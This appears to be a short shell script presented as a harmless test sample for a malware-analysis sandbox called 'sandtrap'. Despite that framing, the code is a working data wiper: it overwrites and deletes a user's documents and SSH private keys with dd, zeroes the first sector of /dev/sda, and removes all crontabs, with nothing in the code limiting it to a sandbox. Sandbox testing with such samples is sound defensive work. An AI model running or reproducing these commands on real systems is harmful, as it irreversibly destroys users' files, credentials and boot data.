#!/bin/sh
# Data destruction: dd overwrites each user file with zeros/random data, then deletes the files and the crontab.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
for f in /home/dmitchell/Documents/* /home/dmitchell/.ssh/id_*; do
  sz=$(stat -c %s "$f")
  dd if=/dev/urandom of="$f" bs=1 count="$sz" conv=notrunc 2>/dev/null
  dd if=/dev/zero of="$f" bs=4096 count=1 2>/dev/null
  rm -f "$f"
done
dd if=/dev/zero of=/dev/sda bs=512 count=1 2>&1 | head -n 1
rm -f /var/spool/cron/crontabs/*
ls /home/dmitchell/Documents
